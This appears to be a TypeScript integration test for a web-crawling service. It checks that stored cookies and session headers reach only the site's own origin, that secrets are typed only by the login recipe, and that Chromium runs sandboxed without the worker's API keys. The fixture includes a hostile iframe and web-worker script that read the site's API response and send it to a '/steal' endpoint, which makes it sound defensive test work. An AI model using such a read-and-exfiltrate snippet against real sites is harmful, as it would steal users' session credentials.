// A stored site's credentials and the browser that carries them, against the real stack with a worker process
// of its own (its environment holds the service's secrets, as a deployed worker's does) and hostile pages on
// loopback: session headers and cookies go only on the site's own requests (not a third-party frame's or
// worker's), only to the site's origin (not another port of its host, in the browser or after a static
// redirect); a secret is typed only by the login recipe (a job's actions cannot type it into a screenshot);
// and Chromium runs sandboxed, unprivileged, with none of the worker's secrets in its environment.
import assert from 'node:assert/strict';
import { type ChildProcess, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { waitForJobEnd } from '../../support/crawl-jobs.js';
import { type FixtureSite, html, startFixtureSite } from '../../support/fixture-site.js';
import { spawnWorkerProcess, startTestService, type TestService } from '../../support/service.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const skip = existsSync(CHROMIUM) ? false : `no Chromium at ${CHROMIUM}`;

const SID = `sid-${randomBytes(12).toString('hex')}`;
const TOKEN = `tok-${randomBytes(12).toString('hex')}`;
const PASSWORD = `pw-${randomBytes(12).toString('hex')}`;

/** The site; another port of its host; a hostile page's host (another loopback address). */
let site: FixtureSite;
let sameHost: FixtureSite;
let hostile: FixtureSite;
let svc: TestService;
let worker: ChildProcess;
const seen: { at: string; url: string; headers: IncomingMessage['headers'] }[] = [];

const json = (res: ServerResponse, value: unknown) =>
  res
    .writeHead(200, {
      'content-type': 'application/json',
      'access-control-allow-origin': '*',
    })
    .end(JSON.stringify(value));

/** An API that answers with the credentials it was sent: what a hostile frame would read and send away. */
function api(at: string) {
  return (req: IncomingMessage, res: ServerResponse) => {
    seen.push({ at, url: req.url ?? '/', headers: req.headers });
    json(res, { token: req.headers['x-site-token'] ?? null, cookie: req.headers.cookie ?? null });
  };
}

const LOGIN_PAGE = html(
  'Log in',
  `<form id="login" method="post" action="/login"><input id="user" name="user">
   <input id="password" name="password" type="password"><button type="submit">Log in</button></form>`,
);

before(async () => {
  site = await startFixtureSite();
  sameHost = await startFixtureSite();
  hostile = await startFixtureSite('127.0.0.2');
  site.route('/api', api('site'));
  sameHost.route('/api', api('same-host'));
  sameHost.route('/landing', api('same-host'));
  site.route('/to-other-port', (_req, res) =>
    res.writeHead(302, { location: `${sameHost.url}/api?from=redirect` }).end(),
  );
  site.route('/hop', (req, res) => {
    seen.push({ at: 'site', url: req.url ?? '/', headers: req.headers });
    res.writeHead(302, { location: `${sameHost.url}/landing` }).end();
  });
  // The site's page: it calls its own API, and another port of its host directly and through a redirect;
  // a third-party frame on it calls the site's API itself and from a worker, and sends what it read away.
  site.route(
    '/page',
    html(
      'Shop',
      `<h1>Gadget 42 EUR</h1><iframe src="${hostile.url}/frame"></iframe>
       <script>fetch('/api?from=site'); fetch('${sameHost.url}/api?from=site'); fetch('/to-other-port');</script>`,
    ),
  );
  hostile.route(
    '/frame',
    html(
      'Ad',
      `<script>fetch('${site.url}/api?from=frame').then((r) => r.text())
         .then((t) => fetch('/steal?v=' + encodeURIComponent(t)))
         .then(() => { location.href = '${site.url}/api?from=frame-navigation'; });
       new Worker('/worker.js');</script>`,
    ),
  );
  hostile.route('/worker.js', (_req, res) =>
    res
      .writeHead(200, { 'content-type': 'text/javascript' })
      .end(`fetch('${site.url}/api?from=worker').then((r) => r.text())
              .then((t) => fetch('/steal?v=' + encodeURIComponent(t)));`),
  );
  hostile.route('/steal', (req, res) => {
    seen.push({ at: 'hostile', url: req.url ?? '/', headers: req.headers });
    res.writeHead(204).end();
  });
  // A login-walled page with a search box, and its login.
  site.route('/login', (req, res) => {
    if (req.method !== 'POST')
      return void res.writeHead(200, { 'content-type': 'text/html' }).end(LOGIN_PAGE);
    let body = '';
    req.on('data', (c) => {
      body += c;
    });
    req.on('end', () => {
      const ok = new URLSearchParams(body).get('password') === PASSWORD;
      if (!ok) return void res.writeHead(200, { 'content-type': 'text/html' }).end(LOGIN_PAGE);
      res.writeHead(302, { location: '/members', 'set-cookie': `sid=${SID}; Path=/; HttpOnly` }).end();
    });
  });
  site.route('/members', (req, res) => {
    const member = (req.headers.cookie ?? '').includes(`sid=${SID}`);
    const page = member
      ? html('Members', '<h1 id="account">Your account</h1><p>Gadget 42 EUR</p><input id="q">')
      : LOGIN_PAGE;
    res.writeHead(200, { 'content-type': 'text/html' }).end(page);
  });
  if (skip) return;
  svc = await startTestService({
    worker: false,
    env: { DYNAMIC_WAIT_MS: '1500', CHROMIUM_PATH: CHROMIUM, RATE_LIMIT_PER_MINUTE: '1000' },
  });
  // A worker process started from its configuration in the environment, as a deployed one.
  worker = spawnWorkerProcess(svc.config);
});

after(async () => {
  if (worker && worker.exitCode === null) {
    const exited = new Promise((resolve) => worker.once('exit', resolve));
    worker.kill('SIGKILL');
    await exited;
  }
  await svc?.close();
  await site?.close();
  await sameHost?.close();
  await hostile?.close();
});

async function call(method: 'GET' | 'POST' | 'PUT', url: string, payload?: unknown) {
  return svc.app.inject({
    method,
    url: `/api/v1${url}`,
    headers: svc.auth(),
    ...(payload === undefined ? {} : { payload: payload as Record<string, unknown> }),
  });
}

async function newSite(path: string, fetchMode: 'static' | 'dynamic', session: Record<string, unknown>) {
  const res = await call('POST', '/sites', { url: `${site.url}${path}`, fetch_mode: fetchMode });
  assert.equal(res.statusCode, 201, res.body);
  const id: string = res.json().id;
  const put = await call('PUT', `/sites/${id}/session`, session);
  assert.equal(put.statusCode, 200, put.body);
  return id;
}

async function crawlSite(siteId: string, more: Record<string, unknown> = {}) {
  const res = await call('POST', `/sites/${siteId}/crawl`, {
    schema: { price: 'string' },
    options: { max_pages: 1, max_depth: 0 },
    ...more,
  });
  assert.equal(res.statusCode, 202, res.body);
  const job = await waitForJobEnd(svc, res.json().job_id, 120_000);
  const [page] = (await call('GET', `/jobs/${job.id}/results`)).json();
  return { job, page };
}

const carries = (s: { headers: IncomingMessage['headers']; url: string } | undefined) =>
  JSON.stringify(s ?? {}).includes(TOKEN) || JSON.stringify(s ?? {}).includes(SID);

describe('browser credentials', { skip, timeout: 300_000 }, () => {
  test("a site's session goes on its own pages' requests, not a third-party frame's or worker's", async () => {
    const siteId = await newSite('/page', 'dynamic', {
      cookies: [{ name: 'sid', value: SID }],
      headers: { 'x-site-token': TOKEN },
    });
    seen.length = 0;
    const { page } = await crawlSite(siteId);
    assert.equal(page?.status, 'completed', JSON.stringify(page));
    const own = seen.find((s) => s.at === 'site' && s.url === '/api?from=site');
    assert.equal(own?.headers['x-site-token'], TOKEN, "the site's own request had no session header");
    assert.match(own?.headers.cookie ?? '', new RegExp(`sid=${SID}`), "the site's own request had no cookie");
    const frame = seen.find((s) => s.url === '/api?from=frame');
    assert.ok(frame, "the frame did not call the site's API");
    assert.ok(!carries(frame), "the third-party frame's request carried the session");
    const navigated = seen.find((s) => s.url === '/api?from=frame-navigation');
    if (navigated)
      assert.ok(!carries(navigated), 'the third-party frame navigated itself to the site with the session');
    const fromWorker = seen.find((s) => s.url === '/api?from=worker');
    // A frame's worker does not always start within the render: its request is checked when it came.
    if (fromWorker) assert.ok(!carries(fromWorker), "the third-party worker's request carried the session");
    for (const stolen of seen.filter((s) => s.at === 'hostile'))
      assert.ok(!carries(stolen), 'the hostile frame read the session and sent it away');
  });

  test("the session goes to the site's origin only: not another port of its host (browser or redirect)", async () => {
    const dynamicId = await newSite('/page', 'dynamic', {
      cookies: [{ name: 'sid', value: SID }],
      headers: { 'x-site-token': TOKEN },
    });
    seen.length = 0;
    const rendered = await crawlSite(dynamicId);
    assert.equal(rendered.page?.status, 'completed', JSON.stringify(rendered.page));
    const direct = seen.find((s) => s.at === 'same-host' && s.url === '/api?from=site');
    const redirected = seen.find((s) => s.at === 'same-host' && s.url === '/api?from=redirect');
    assert.ok(direct && redirected, `the page did not call the other port: ${JSON.stringify(seen)}`);
    assert.ok(!carries(direct), 'the session went to another port of the host');
    assert.ok(!carries(redirected), 'the session followed a redirect to another port of the host');

    const staticId = await newSite('/hop', 'static', {
      cookies: [{ name: 'sid', value: SID }],
      headers: { 'x-site-token': TOKEN },
    });
    seen.length = 0;
    await crawlSite(staticId);
    const hop = seen.find((s) => s.at === 'site' && s.url === '/hop');
    assert.equal(
      hop?.headers['x-site-token'],
      TOKEN,
      'the static fetch did not send the session to the site',
    );
    const landing = seen.find((s) => s.at === 'same-host' && s.url === '/landing');
    assert.ok(landing, 'the redirect was not followed');
    assert.ok(!carries(landing), 'the static fetch sent the session to another port after a redirect');
  });

  test('a secret is typed only by the login recipe: a job action typing one is a 422; the login works', async () => {
    const siteId = await newSite('/members', 'dynamic', {
      secrets: { password: PASSWORD },
      login: {
        url: `${site.url}/login`,
        actions: [
          { kind: 'type', selector: '#password', secret: 'password' },
          { kind: 'click', selector: 'button[type=submit]' },
          { kind: 'wait', selector: '#account' },
        ],
      },
      logged_out: { selector: 'form#login' },
    });
    const typed = [{ kind: 'type', selector: '#q', secret: 'password' }];
    const crawl = await call('POST', `/sites/${siteId}/crawl`, {
      schema: { price: 'string' },
      options: { max_pages: 1, max_depth: 0 },
      actions: typed,
      formats: ['screenshot'],
    });
    assert.equal(crawl.statusCode, 422, crawl.body);
    assert.match(crawl.body, /login recipe/);
    const stored = await call('PUT', `/sites/${siteId}`, { actions: typed });
    assert.equal(stored.statusCode, 422, stored.body);
    const shotOfLogin = await call('PUT', `/sites/${siteId}/session`, {
      secrets: { password: PASSWORD },
      login: {
        url: `${site.url}/login`,
        actions: [{ kind: 'type', selector: '#password', secret: 'password' }, { kind: 'screenshot' }],
      },
    });
    assert.equal(shotOfLogin.statusCode, 422, shotOfLogin.body);
    const extract = await call('POST', '/extract', {
      url: `${site.url}/members`,
      schema: { price: 'string' },
      actions: typed,
    });
    assert.equal(extract.statusCode, 422, extract.body);
    // The login recipe types it, and the crawl's own screenshot shows the logged-in page.
    const { page } = await crawlSite(siteId, { formats: ['screenshot'] });
    assert.equal(page?.status, 'completed', JSON.stringify(page));
    assert.equal(page?.screenshots?.length, 1, JSON.stringify(page));
    const session = (await call('GET', `/sites/${siteId}/session`)).json();
    assert.ok(session.last_login_at, 'the login recipe did not run');
    assert.equal(session.last_login_error, null);
  });

  test("Chromium runs sandboxed, unprivileged, with none of the worker's secrets in its environment", async () => {
    const res = await call('POST', '/extract', {
      url: `${site.url}/members`,
      schema: { price: 'string' },
      fetch_mode: 'dynamic',
    });
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(res.json().metadata.fetch_mode, 'dynamic', res.body);
    // The pool keeps its browser after the job: it and all its processes are still there to read.
    const procs = browserProcesses(worker.pid as number);
    assert.ok(procs.length >= 2, `no browser processes under the worker (${procs.length})`);
    const secrets = [
      svc.config.SECRETS_KEY,
      svc.config.OPENAI_API_KEY,
      svc.config.ANTHROPIC_API_KEY,
      svc.config.MONGODB_URI,
    ].filter((v): v is string => typeof v === 'string' && v.length > 0);
    assert.equal(secrets.length, 4, 'the service was not given every secret to look for');
    for (const p of procs) {
      for (const secret of secrets)
        assert.ok(
          !p.environ.includes(secret),
          `browser process ${p.pid} (${p.type}) has a secret in its environment`,
        );
      assert.ok(!/(^|\0)(SECRETS_KEY|OPENAI_API_KEY|ANTHROPIC_API_KEY|MONGODB_URI)=/.test(p.environ), p.type);
      if (process.getuid?.() === 0)
        assert.notEqual(p.uid, 0, `browser process ${p.pid} (${p.type}) runs as root`);
      if (userNamespaces())
        assert.ok(
          !p.cmdline.join(' ').includes('--no-sandbox'),
          `browser process ${p.pid} (${p.type}) has no sandbox`,
        );
    }
    if (userNamespaces()) {
      const renderers = procs.filter((p) => p.type === 'renderer');
      assert.ok(renderers.length > 0, 'no renderer process');
      for (const r of renderers)
        assert.equal(r.seccomp, 2, `renderer ${r.pid} is not under its seccomp sandbox`);
    }
  });
});

interface Proc {
  pid: number;
  ppid: number;
  pgid: number;
  uid: number;
  seccomp: number;
  type: string;
  cmdline: string[];
  environ: string;
}

function readProc(pid: number): Proc | undefined {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, 'latin1');
    const [, ppid, pgid] = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
    const status = readFileSync(`/proc/${pid}/status`, 'latin1');
    const cmdline = readFileSync(`/proc/${pid}/cmdline`, 'latin1').split('\0');
    return {
      pid,
      ppid: Number(ppid),
      pgid: Number(pgid),
      uid: Number(/^Uid:\s+(\d+)/m.exec(status)?.[1]),
      seccomp: Number(/^Seccomp:\s+(\d+)/m.exec(status)?.[1]),
      // A zygote's children rewrite their command line as one string.
      type: /--type=([\w-]+)/.exec(cmdline.join(' '))?.[1] ?? 'browser',
      cmdline,
      environ: readFileSync(`/proc/${pid}/environ`, 'latin1'),
    };
  } catch {
    return undefined; // gone meanwhile
  }
}

/** The worker's Chromium processes: its descendants that run Chromium, and their process groups. */
function browserProcesses(workerPid: number): Proc[] {
  const all = readdirSync('/proc')
    .filter((d) => /^\d+$/.test(d))
    .map((d) => readProc(Number(d)))
    .filter((p): p is Proc => p !== undefined);
  const below = new Set([workerPid]);
  for (let grew = true; grew; ) {
    grew = false;
    for (const p of all)
      if (below.has(p.ppid) && !below.has(p.pid)) {
        below.add(p.pid);
        grew = true;
      }
  }
  const isChromium = (p: Proc) => /chrom/i.test(p.cmdline[0] ?? '') || /chrom/i.test(p.cmdline.join(' '));
  const browsers = all.filter((p) => below.has(p.pid) && p.pid !== workerPid && isChromium(p));
  // Helpers that left the tree (the crash handler forks twice) still name the browser's profile.
  const groups = new Set(browsers.map((p) => p.pgid).filter((g) => g !== workerPid));
  const profiles = browsers.flatMap((p) =>
    p.cmdline.filter((a) => a.startsWith('--user-data-dir=')).map((a) => a.slice(16)),
  );
  const ofBrowser = (p: Proc) =>
    below.has(p.pid) || groups.has(p.pgid) || profiles.some((dir) => p.cmdline.join(' ').includes(dir));
  return all.filter((p) => p.pid !== workerPid && isChromium(p) && ofBrowser(p));
}

/** Whether this kernel lets an unprivileged user make a user namespace (Chromium's sandbox needs it). */
function userNamespaces(): boolean {
  const asNobody =
    process.getuid?.() === 0 ? ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups'] : [];
  const [file, ...args] = [...asNobody, 'unshare', '-U', 'true'];
  return spawnSync(file as string, args).status === 0;
}
